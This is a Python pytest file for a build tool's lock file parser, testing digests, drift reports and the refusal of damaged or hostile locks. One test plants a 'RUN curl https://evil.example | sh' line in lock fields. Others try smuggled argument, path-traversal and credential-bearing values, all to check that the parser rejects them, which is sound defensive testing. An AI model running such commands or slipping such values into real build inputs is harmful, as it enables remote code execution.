"""Locks: one text for one lock, what its digest covers, what a damaged or hostile one is told, what drift reads like."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builder.errors import LockError, UsageError
from builder.lock import (
    OsPackage,
    Resolver,
    check_current,
    drift,
    inputs_digest,
    lock_path,
    parse_lock,
    read_lock,
    write_lock,
)
from tests.made import ROOT, artefact, direct, lock_of, sha, tiny

LOADED = tiny()
LOCK = lock_of(
    LOADED.matrix,
    artefact("numpy", "2.2.6", requires=("idna", "packaging>=24")),
    artefact("packaging", "24.2", index="site"),
    direct("sgl-kernel", "0.3.21+cu130", metadata_version="0.3.21"),
)


def data() -> dict[str, Any]:
    value: dict[str, Any] = json.loads(LOCK.text())
    return value


def refusal(text: str) -> str:
    with pytest.raises(UsageError) as caught:
        parse_lock(text, "x.lock.json")
    return str(caught.value)


# --- the text and the digest ------------------------------------------------------------------------------------------


def test_the_text_reads_one_package_a_line() -> None:
    assert LOCK.text() == (
        "{\n"
        ' "schema": 1,\n'
        ' "matrix": "tiny",\n'
        f' "inputs": "{LOCK.inputs}",\n'
        ' "as_of": "2026-03-01",\n'
        ' "platform": "linux/amd64",\n'
        ' "python": "3.11",\n'
        ' "resolver": {\n'
        '  "name": "uv",\n'
        '  "version": "0.13.9"\n'
        " },\n"
        ' "base": {"kind": "archive", "distribution": "debian", "release": "bookworm", "reference": null, "packages": [\n'
        '  {"name": "base-files", "version": "12.4+deb12u15", "architecture": "amd64"},\n'
        '  {"name": "tini", "version": "0.19.0-1", "architecture": "amd64"}\n'
        " ]},\n"
        ' "artefacts": [\n'
        '  {"name": "numpy", "version": "2.2.6", "metadata_version": "2.2.6", "file": "numpy-2.2.6-py3-none-any.whl", '
        f'"sha256": "{sha("numpy 2.2.6")}", "size": 1000, "index": "default", "url": null, '
        '"requires": ["idna", "packaging>=24"], "layer": "rest"},\n'
        '  {"name": "packaging", "version": "24.2", "metadata_version": "24.2", "file": "packaging-24.2-py3-none-any.whl", '
        f'"sha256": "{sha("packaging 24.2")}", "size": 1000, "index": "site", "url": null, "requires": [], '
        '"layer": "rest"},\n'
        '  {"name": "sgl-kernel", "version": "0.3.21+cu130", "metadata_version": "0.3.21", '
        '"file": "sgl_kernel-0.3.21+cu130-py3-none-any.whl", '
        f'"sha256": "{sha("sgl-kernel 0.3.21+cu130")}", "size": null, "index": null, '
        '"url": "https://wheels.example/sgl_kernel-0.3.21%2Bcu130-py3-none-any.whl", "requires": [], "layer": "kernels"}\n'
        " ]\n"
        "}\n"
    )


def test_the_text_is_read_back_as_the_same_lock(tmp_path: Path) -> None:
    write_lock(LOCK, tmp_path / "tiny.lock.json")
    again = read_lock(tmp_path / "tiny.lock.json")
    assert (again, again.text(), again.digest) == (LOCK, LOCK.text(), LOCK.digest)


def test_an_empty_lock_is_read_back() -> None:
    empty = lock_of(LOADED.matrix, base=LOCK.base.model_copy(update={"packages": ()}))
    assert parse_lock(empty.text(), "x") == empty


def test_the_checked_in_lock_is_as_it_would_be_written() -> None:
    path = ROOT / "matrices" / "cu130-next.lock.json"
    assert read_lock(path).text() == path.read_text(encoding="utf-8")


def test_the_digest_is_of_the_canonical_json_and_not_of_the_text() -> None:
    spaced = json.dumps(data(), indent=7, sort_keys=True)
    assert parse_lock(spaced, "x").digest == LOCK.digest


CHANGES: dict[str, dict[str, Any]] = {
    "matrix": {"matrix": "other"},
    "inputs": {"inputs": sha("other")},
    "as_of": {"as_of": "2026-03-02"},
    "python": {"python": "3.12"},
    "resolver": {"resolver": Resolver(name="uv", version="0.14.0")},
    "base": {"base": LOCK.base.model_copy(update={"release": "trixie"})},
    "an OS package": {"base": LOCK.base.model_copy(update={"packages": LOCK.base.packages[:1]})},
    "artefacts": {"artefacts": LOCK.artefacts[:2]},
}
ARTEFACT_CHANGES: dict[str, Any] = {
    "metadata_version": "0.3.22",
    "sha256": sha("other"),
    "size": 1,
    "url": "https://other.example/sgl_kernel-0.3.21%2Bcu130-py3-none-any.whl",
    "requires": ("torch",),
    "layer": "rest",
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_the_digest_changes_with_any_field(change: dict[str, Any]) -> None:
    change = dict(change)
    assert lock_of(LOADED.matrix, *change.pop("artefacts", LOCK.artefacts), **change).digest != LOCK.digest


@pytest.mark.parametrize("field", ARTEFACT_CHANGES)
def test_the_digest_changes_with_any_field_of_an_artefact(field: str) -> None:
    changed = LOCK.artefacts[2].model_copy(update={field: ARTEFACT_CHANGES[field]})
    assert lock_of(LOADED.matrix, *LOCK.artefacts[:2], changed).digest != LOCK.digest


def test_every_field_of_an_artefact_is_among_these_changes() -> None:
    identity = {"name", "version", "file", "index"}
    assert identity | ARTEFACT_CHANGES.keys() == set(type(LOCK.artefacts[0]).model_fields)


def test_the_digest_of_a_changed_copy_is_its_own() -> None:
    assert LOCK.model_copy(update={"as_of": "2026-03-02"}).digest != LOCK.digest


def test_a_version_is_found_under_any_spelling() -> None:
    assert (LOCK.version_of("SGL_Kernel"), LOCK.version_of("absent")) == ("0.3.21+cu130", None)


def test_the_lock_is_beside_the_matrix() -> None:
    assert lock_path(Path("matrices/cu130.next.yaml")) == Path("matrices/cu130.next.lock.json")


# --- what decides a resolution ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        "labels: {com.example.team: x}\n",
        "environment: {MODE: x}\n",
        "budget: {image: 1 GB}\n",
        "patches: {sm120: {}}\n",
    ],
)
def test_the_inputs_do_not_cover_what_decides_no_resolution(extra: str) -> None:
    assert inputs_digest(tiny(extra).matrix) == inputs_digest(LOADED.matrix)


def test_the_inputs_do_not_cover_summary_and_gpus() -> None:
    assert inputs_digest(tiny(summary="Another text", gpus='["9.0"]').matrix) == inputs_digest(LOADED.matrix)


def test_the_inputs_do_not_cover_the_reason_of_an_override() -> None:
    override = "overrides: [{{package: idna, pin: ==3.6, ours: 3.7.1, because: {}, source: {}}}]\n"
    one, two = (tiny(override.format(word, word)).matrix for word in ("one", "two"))
    assert inputs_digest(one) == inputs_digest(two) != inputs_digest(LOADED.matrix)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("as_of", "2026-03-02"),
        ("python", '"3.12"'),
        ("base", "{kind: archive, distribution: debian, release: trixie}"),
        ("cuda", ("{version: 13.0.2, jit: nvcc, compiler: {nvidia-cuda-nvcc: 13.0.88, nvidia-nvvm: 13.0.88, "
         "nvidia-cuda-crt: 13.0.88, nvidia-cuda-cccl: 13.0.85}}")),
        ("stack", "{torch: 2.11.0}"),
    ],
)  # fmt: skip
def test_the_inputs_cover_what_decides_a_resolution(field: str, value: str) -> None:
    assert inputs_digest(tiny(**{field: value}).matrix) != inputs_digest(LOADED.matrix)


@pytest.mark.parametrize(
    "extra",
    [
        "extras: [packaging==24.2]\n",
        "prereleases: [packaging]\n",
        "indexes: {site: {url: https://wheels.example/x, packages: [packaging]}}\n",
        f"files: [{{name: idna, url: https://wheels.example/idna-3.7-py3-none-any.whl, sha256: {sha('x')}}}]\n",
    ],
)
def test_the_inputs_cover_where_packages_come_from(extra: str) -> None:
    assert inputs_digest(tiny(extra).matrix) != inputs_digest(LOADED.matrix)


def test_a_lock_of_this_matrix_is_current() -> None:
    check_current(LOCK, LOADED.matrix, Path("matrices/tiny.lock.json"))


def test_a_lock_of_a_matrix_that_was_changed_is_refused() -> None:
    with pytest.raises(LockError) as caught:
        check_current(LOCK, tiny("extras: [idna==3.7]\n").matrix, Path("matrices/tiny.lock.json"))
    assert str(caught.value) == (
        "error: the lock does not belong to this matrix\n"
        "  at: matrices/tiny.lock.json\n"
        "  because: the matrix was changed after it was locked\n"
        "  hint: see what changes: `builder lock tiny --check`; take it: `builder lock tiny`"
    )


# --- damaged ----------------------------------------------------------------------------------------------------------


def test_no_lock(tmp_path: Path) -> None:
    with pytest.raises(LockError) as caught:
        read_lock(tmp_path / "tiny.lock.json")
    assert str(caught.value) == (
        f"error: the matrix has no lock\n  at: {tmp_path}/tiny.lock.json\n  hint: make one: `builder lock tiny`"
    )


def test_a_lock_that_is_not_utf_8(tmp_path: Path) -> None:
    (tmp_path / "x.lock.json").write_bytes(b"\xff")
    with pytest.raises(UsageError) as caught:
        read_lock(tmp_path / "x.lock.json")
    assert str(caught.value) == (
        f"error: the lock cannot be read\n  at: {tmp_path}/x.lock.json\n"
        "  because: 'utf-8' codec can't decode byte 0xff in position 0: invalid start byte"
    )


AGAIN = "  hint: write it again: `builder lock MATRIX`"


def test_a_lock_that_was_cut_off() -> None:
    assert refusal(LOCK.text()[:60]) == (
        "error: the lock is not JSON\n  at: x.lock.json\n"
        f"  because: Unterminated string starting at: line 4 column 12 (char 46)\n{AGAIN}"
    )


def test_a_lock_that_is_nested_deep() -> None:
    told = refusal("[" * 100_000)
    assert told == (
        "error: the lock is not JSON\n  at: x.lock.json\n"
        f"  because: maximum recursion depth exceeded while decoding a JSON array from a unicode string\n{AGAIN}"
    )


@pytest.mark.parametrize("schema", [2, None, "1"])
def test_a_lock_of_another_schema(schema: object) -> None:
    assert refusal(json.dumps({**data(), "schema": schema})) == (
        f"error: the lock is of schema {schema!r}, this builder reads 1\n  at: x.lock.json\n{AGAIN}"
    )


def test_a_lock_that_is_no_object() -> None:
    assert refusal("[]") == (
        f"error: the lock is damaged\n  at: x.lock.json\n  because: Input should be an object\n{AGAIN}"
    )


def test_a_bad_sha256() -> None:
    damaged = data()
    damaged["artefacts"][0]["sha256"] = "abc"
    assert refusal(json.dumps(damaged)) == (
        "error: the lock is damaged\n  at: x.lock.json\n"
        "  because: artefacts.0.sha256: String should match pattern '^[0-9a-f]{64}\\z' (got 'abc')\n" + AGAIN
    )


def test_a_key_that_no_lock_has() -> None:
    assert refusal(json.dumps({**data(), "more": 1})) == (
        f"error: the lock is damaged\n  at: x.lock.json\n  because: more: Extra inputs are not permitted\n{AGAIN}"
    )


def test_a_package_twice() -> None:
    damaged = data()
    damaged["artefacts"].append(damaged["artefacts"][-1])
    assert refusal(json.dumps(damaged)) == (
        "error: the lock is damaged\n  at: x.lock.json\n"
        f"  because: artefacts: Value error, each package once, sorted by name\n{AGAIN}"
    )


@pytest.mark.parametrize(
    ("index", "change", "because"),
    [
        (0, {"file": "pandas-2.2.6-py3-none-any.whl"}, "`pandas-2.2.6-py3-none-any.whl` is not a wheel of numpy 2.2.6"),
        (0, {"file": "numpy-2.2.7-py3-none-any.whl"}, "`numpy-2.2.7-py3-none-any.whl` is not a wheel of numpy 2.2.6"),
        (0, {"index": None}, "`numpy` has to have either an index or a url"),
        (2, {"index": "default"}, "`sgl-kernel` has to have either an index or a url"),
    ],
)
def test_parts_of_an_artefact_that_do_not_fit(index: int, change: dict[str, Any], because: str) -> None:
    damaged = data()
    damaged["artefacts"][index] |= change
    assert refusal(json.dumps(damaged)) == (
        f"error: the lock is damaged\n  at: x.lock.json\n  because: artefacts.{index}: Value error, {because}\n{AGAIN}"
    )


HOSTILE = "x\nRUN curl https://evil.example | sh"
PLACES = [
    *[("artefacts", 0, field) for field in ("name", "version", "metadata_version", "file", "sha256", "index", "layer")],
    ("artefacts", 2, "url"),
    *[("base", field) for field in ("kind", "distribution", "release", "reference")],
    *[("base", "packages", 0, field) for field in ("name", "version", "architecture")],
    *[(field,) for field in ("matrix", "inputs", "as_of", "platform", "python")],
    ("resolver", "version"),
    ("artefacts", 0, "requires", 0),
]


@pytest.mark.parametrize("place", PLACES, ids=lambda place: ".".join(map(str, place)))
@pytest.mark.parametrize("ending", ["", "\n", "\r", "\u2028", "\x00", "\x85"], ids=ascii)
def test_a_hostile_value_is_refused(place: tuple[str | int, ...], ending: str) -> None:
    damaged = data()
    part: Any = damaged
    for key in place[:-1]:
        part = part[key]
    part[place[-1]] = f"{part[place[-1]]}{ending}" if ending else HOSTILE
    told = refusal(json.dumps(damaged))
    assert told.startswith("error: the lock is damaged\n  at: x.lock.json\n  because: ")
    assert told.count("\n") == 3


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("index", "files"),
        ("index", "../x"),
        ("index", "-x"),
        ("layer", "rest,target=/"),
        ("file", "../../x-1.0-py3-none-any.whl"),
        ("version", "1.0 --index-url=x"),
        ("version", "--x"),
        ("url", "https://me:secret@wheels.example/numpy-2.2.6-py3-none-any.whl"),
        ("url", "http://wheels.example/numpy-2.2.6-py3-none-any.whl"),
        ("size", -1),
        ("size", "1"),
        ("requires", [""]),
    ],
)
def test_a_value_that_would_mean_something_else_downstream_is_refused(field: str, value: object) -> None:
    damaged = data()
    damaged["artefacts"][0][field] = value
    assert refusal(json.dumps(damaged)).startswith("error: the lock is damaged\n")


@given(st.text(max_size=300))
def test_any_text_is_a_lock_or_a_usage_error(text: str) -> None:
    with pytest.raises(UsageError):
        parse_lock(text, "x")


# --- drift ------------------------------------------------------------------------------------------------------------


def test_equal_locks_have_no_drift() -> None:
    assert drift(LOCK, parse_lock(LOCK.text(), "x")) == []


def test_drift_in_words() -> None:
    numpy, _, kernel = LOCK.artefacts
    base = LOCK.base.model_copy(
        update={
            "release": "trixie",
            "packages": (
                OsPackage(name="base-files", version="13", architecture="amd64"),
                OsPackage(name="libnuma1", version="2.0.16-1", architecture="amd64"),
            ),
        }
    )
    new = lock_of(
        LOADED.matrix,
        artefact("idna", "3.7"),
        numpy.model_copy(update={"requires": ("packaging>=25", "idna"), "layer": "torch", "size": None}),
        kernel.model_copy(update={"sha256": sha("other")}),
        artefact("zipp", "1.0"),
        as_of="2026-04-01",
        python="3.12",
        base=base,
    )
    assert drift(LOCK, new) == [
        "as_of 2026-03-01 → 2026-04-01",
        "python 3.11 → 3.12",
        "base release bookworm → trixie",
        "idna 3.7 is new",
        "numpy 2.2.6: size 1000 → none",
        "numpy 2.2.6: requires `packaging>=24` → `packaging>=25`",
        "numpy 2.2.6: layer rest → torch",
        "packaging 24.2 is gone",
        f"sgl-kernel 0.3.21+cu130: sha256 {kernel.sha256[:12]}… → {sha('other')[:12]}…",
        "zipp 1.0 is new",
        "OS package base-files 12.4+deb12u15 → 13",
        "OS package libnuma1 2.0.16-1 is new",
        "OS package tini 0.19.0-1 is gone",
    ]


def test_drift_of_a_version() -> None:
    new = lock_of(LOADED.matrix, artefact("numpy", "2.4.0"), *LOCK.artefacts[1:])
    assert drift(LOCK, new) == ["numpy 2.2.6 → 2.4.0"]
